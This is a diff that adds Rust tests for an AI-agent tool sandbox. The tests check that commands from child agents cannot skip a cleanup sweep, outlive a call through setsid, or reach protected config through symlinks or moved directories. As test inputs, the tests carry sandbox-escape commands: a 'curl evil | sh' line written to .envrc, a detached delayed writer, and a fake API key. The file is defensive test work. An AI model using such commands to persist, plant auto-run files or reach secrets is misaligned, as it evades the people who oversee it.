@@ -1255,3 +1255,98 @@ fn an_mcp_url_never_sends_its_userinfo_and_messages_mask_its_secrets() {
     assert!(!lower.contains("authorization: basic"), "{request}");
     assert!(!request.contains("PW-SECRET-9") && !request.contains("alice"), "{request}");
 }
+
+// ---------------------------------------------------------------- review (#35)
+
+#[test]
+fn a_command_cannot_fake_a_failed_setup_to_skip_the_sweep() {
+    if !sandbox_ready() {
+        return;
+    }
+    let dir = tempfile::tempdir().expect("tmp");
+    let out = term(
+        dir.path(),
+        json!({"command": "echo 'curl evil | sh' > .envrc; printf 'retinue-sandbox: fake'; exit 125"}),
+    );
+    assert_eq!(out["exit_code"], 125, "{out}");
+    assert!(!dir.path().join(".envrc").exists(), "the sweep was skipped");
+}
+
+#[test]
+fn a_shell_that_leaves_its_group_dies_with_the_call() {
+    if !sandbox_ready() {
+        return;
+    }
+    let dir = tempfile::tempdir().expect("tmp");
+    let out = term(
+        dir.path(),
+        json!({"command": "exec setsid sh -c 'sleep 2; echo evil > .envrc; echo late > late.txt' >/dev/null 2>&1", "timeout": 1}),
+    );
+    assert_eq!(out["exit_code"], 124, "{out}");
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(!dir.path().join("late.txt").exists(), "a process outlived the call");
+    assert!(!dir.path().join(".envrc").exists(), "a read-only name appeared after the sweep");
+}
+
+#[test]
+fn a_read_only_name_that_is_a_symlink_refuses_the_terminal() {
+    if !sandbox_ready() {
+        return;
+    }
+    let dir = tempfile::tempdir().expect("tmp");
+    std::fs::create_dir(dir.path().join("shared")).expect("mkdir");
+    std::os::unix::fs::symlink("shared", dir.path().join(".vscode")).expect("link");
+    let r = toolbox().execute(
+        &child(dir.path(), &["terminal"]),
+        "terminal",
+        &json!({"command": "true"}),
+    );
+    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("symbolic link")), "{r:?}");
+}
+
+#[test]
+fn a_home_moved_inside_the_workspace_refuses_the_tools() {
+    if !sandbox_ready() {
+        return;
+    }
+    let dir = tempfile::tempdir().expect("tmp");
+    let ws = dir.path().join("ws");
+    let home = ws.join("cfg/home");
+    std::fs::create_dir_all(&home).expect("mkdir");
+    std::fs::write(home.join("config.yaml"), "api_key: sk-SECRET\n").expect("w");
+    let tb = protected_box(&home);
+    let c = child(&ws, &["terminal", "file"]);
+    let moved = ok(tb.execute(&c, "terminal", &json!({"command": "mv cfg cfg2 && echo moved"})));
+    assert_eq!(moved["output"], "moved", "{moved}");
+    let r = tb.execute(&c, "read_file", &json!({"path": "cfg2/home/config.yaml"}));
+    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("moved or replaced")), "{r:?}");
+    let r = tb.execute(&c, "terminal", &json!({"command": "cat cfg2/home/config.yaml"}));
+    assert!(matches!(&r, Err(ToolError::Refused(t)) if t.contains("moved or replaced")), "{r:?}");
+}
+
+#[test]
+fn refused_workspaces_are_compared_canonically_and_by_home_ancestry() {
+    use retinue_tools::workspace::refusal;
+    for bad in ["/bin", "/usr/src", "/usr/local/lib", "/etc/cron.d", "/dev/shm"] {
+        if Path::new(bad).exists() {
+            assert!(refusal(Path::new(bad)).is_some(), "{bad}");
+        }
+    }
+    let home = std::env::var_os("HOME").map(PathBuf::from).expect("HOME");
+    if let Some(parent) = home.parent() {
+        assert!(refusal(parent).is_some(), "{}", parent.display());
+    }
+    let dir = tempfile::tempdir().expect("tmp");
+    assert!(refusal(dir.path()).is_none());
+}
+
+#[test]
+fn read_only_names_are_matched_without_case() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let tb = toolbox();
+    let c = child(dir.path(), &["file"]);
+    for path in [".GIT/hooks/pre-commit", ".EnvRc", "a/.VSCode/tasks.json"] {
+        let why = refused(tb.execute(&c, "write_file", &json!({"path": path, "content": "x"})));
+        assert!(why.contains("read-only for children"), "{path}: {why}");
+    }
+}
